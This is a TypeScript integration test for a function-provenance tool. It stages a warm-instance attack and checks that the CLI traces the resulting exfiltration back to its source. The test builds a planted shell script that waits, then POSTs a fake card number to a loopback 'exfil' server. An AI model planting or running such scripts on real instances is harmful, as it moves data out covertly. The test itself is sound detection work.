// A graph from a real run: the real collector, two functions under the real fwatchdog (provenance
// and audit on) calling each other through the local stack's gateway, an attacker's servers on
// loopback, and the warm-instance attack: request one plants a script, request two runs it, the
// script sends data out after the request ended. Then the CLI traces back from that connection.
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startCollector, stopAllCollectors, type CollectorHandle } from '../support/collector';
import { stopAllWatchdogs, type WatchdogHandle } from '../support/watchdog';
import { call, waitFor } from '../support/provenance';
import { startGraphPair, type GraphPair } from '../support/graph-pair';
import type { Gateway } from '../../cli/stack/gateway';

const TOKEN = 'graph-real-run';

function listen(handler: Parameters<typeof createServer>[1]): Promise<Server> {
  return new Promise((resolve) => {
    const s = createServer(handler);
    s.listen(0, '127.0.0.1', () => resolve(s));
  });
}
const portOf = (s: Server) => (s.address() as AddressInfo).port;

let c: CollectorHandle;
let gw: Gateway;
let payload: Server, exfil: Server;
let plantDir: string;
let stolen: Promise<string>;
let wds: WatchdogHandle[] = [];
let pair: GraphPair | undefined;

beforeAll(async () => {
  c = await startCollector({ token: TOKEN });
  plantDir = mkdtempSync(join(tmpdir(), 'alastor-graph-plant-'));
  let gotIt: (s: string) => void;
  stolen = new Promise((r) => (gotIt = r));
  exfil = await listen((req, res) => {
    let b = '';
    req.on('data', (x) => (b += x));
    req.on('end', () => { res.end('ok'); gotIt(b); });
  });
  const script = `sleep 1\nexec ${process.execPath} -e "require('http').request({host:'127.0.0.1',port:${portOf(exfil)},method:'POST',path:'/exfil'}).end('4111-1111-1111-1111')"\n`;
  payload = await listen((_req, res) => res.end(script));
  pair = await startGraphPair({ collectorUrl: c.url, token: TOKEN, payloadUrl: `http://127.0.0.1:${portOf(payload)}/payload.sh`, plantPath: join(plantDir, 'planted.sh') });
  gw = pair.gw;
  wds = pair.wds;
}, 90000);

afterAll(async () => {
  await stopAllWatchdogs();
  await pair?.close();
  payload?.close();
  exfil?.close();
  await c?.stop();
  await stopAllCollectors();
  rmSync(plantDir, { recursive: true, force: true });
});

test('the graph of a real run: every call confirmed, and the exfiltration traced back to request one', async () => {
  const ids: string[] = [];
  for (const step of ['none', 'one', 'two']) {
    const r = await call(`${gw.url}/function/front`, { body: JSON.stringify({ step }), headers: { 'content-type': 'application/json' } });
    expect(`${r.status} ${r.status === 200 ? '' : r.body.toString() + wds.map((w) => w.logs()).join('\n')}`).toBe('200 ');
    ids.push(r.headers['x-alastor-invocation'] as string);
  }
  expect(await stolen).toBe('4111-1111-1111-1111');

  // Every front invocation and its back callee finished and reached the store.
  await waitFor(() => c.query<{ n: number }>(`SELECT count(*) AS n FROM events WHERE kind = 'invocation.end'`)[0].n >= 6, 20000, 'six finished invocations');
  await waitFor(() => c.query<{ n: number }>(`SELECT count(*) AS n FROM events WHERE kind = 'http.out' AND body LIKE '%"callee":"back"%'`)[0].n >= 3, 20000, 'three proxied calls');

  const shown = await c.cli(['graph', 'show', ids[0], '--json']);
  expect(shown.stderr).toBe('');
  const g = JSON.parse(shown.stdout) as { nodes: Array<{ id: string; kind: string; attributes: Record<string, unknown> }>; edges: Array<{ from: string; to: string; relation: string; trust?: string; evidence: string; time: number }> };
  expect(g.nodes.find((n) => n.id === `inv:${ids[0]}`)!.attributes.function).toBe('front');

  // Ground truth for cross-function links over the whole store: one confirmed link per call, nothing else.
  const exported = await c.cli(['graph', 'export', '--format', 'prov-json']);
  expect(exported.code).toBe(0);
  const prov = JSON.parse(exported.stdout);
  const links = Object.values(prov.wasInformedBy ?? {}) as Array<Record<string, unknown>>;
  expect(links).toHaveLength(3);
  const callers = links.map((l) => decodeURIComponent(String(l['prov:informant']).slice('alastor:'.length))).sort();
  expect(callers).toEqual(ids.map((i) => `inv:${i}`).sort());
  for (const l of links) expect(l['alastor:trust']).toBe('confirmed');

  const audited = c.query<{ n: number }>(`SELECT count(*) AS n FROM events WHERE kind = 'syscall' AND function = 'front'`)[0].n;
  if (!audited && process.env.CI !== 'true') {
    console.log('skipping the warm-instance half: no syscall events (Linux audit unavailable here)');
    return;
  }
  // The detached script's connection to the exfiltration server, attributed to no invocation.
  await waitFor(() => c.query(`SELECT 1 FROM events WHERE kind = 'syscall' AND body LIKE '%"syscall":"connect"%' AND body LIKE ?`, `%"port":${portOf(exfil)}%`).length, 20000, 'the exfiltration connect in the store');
  const r = await c.cli(['trace', 'back', `127.0.0.1:${portOf(exfil)}`, '--json']);
  expect(r.stderr).toBe('');
  const t = JSON.parse(r.stdout) as { nodes: Array<{ id: string; kind: string; attributes: Record<string, unknown> }>; roots: string[]; path: string[] };
  const kind = (id: string) => t.nodes.find((n) => n.id === id)!.kind;
  // connection <- process ... <- planted file version <- invocation one <- the external request
  expect(kind(t.path[0])).toBe('socket');
  expect(kind(t.path[1])).toBe('process');
  const tail = t.path.slice(-3);
  if (!/^file:.*planted\.sh#\d+@1$/.test(tail[0])) {
    // Say why: the trace as text, and every syscall the store holds about the planted file.
    console.log((await c.cli(['trace', 'back', `127.0.0.1:${portOf(exfil)}`])).stdout);
    console.log(c.query(`SELECT invocation, body FROM events WHERE kind = 'syscall' AND body LIKE '%planted.sh%'`));
  }
  expect(tail[0]).toMatch(/^file:.*planted\.sh#\d+@1$/);
  expect(tail.slice(1)).toEqual([`inv:${ids[1]}`, `req:${ids[1]}`]);
  expect(t.roots).toEqual(expect.arrayContaining([`req:${ids[1]}`, `req:${ids[2]}`, `remote:127.0.0.1:${portOf(payload)}`]));
  expect(t.roots).not.toContain(`req:${ids[0]}`);
  expect(t.nodes.map((n) => n.id)).toContain(`inv:${ids[2]}`);

  // The tracing view sees three separate requests and nothing that links one to two.
  const tv = JSON.parse((await c.cli(['graph', 'show', ids[2], '--view', 'tracing', '--json'])).stdout) as { nodes: Array<{ id: string; kind: string }> };
  expect(tv.nodes.map((n) => n.id)).not.toContain(`inv:${ids[1]}`);
  expect(tv.nodes.every((n) => ['workflow', 'invocation', 'message'].includes(n.kind))).toBe(true);
}, 120000);
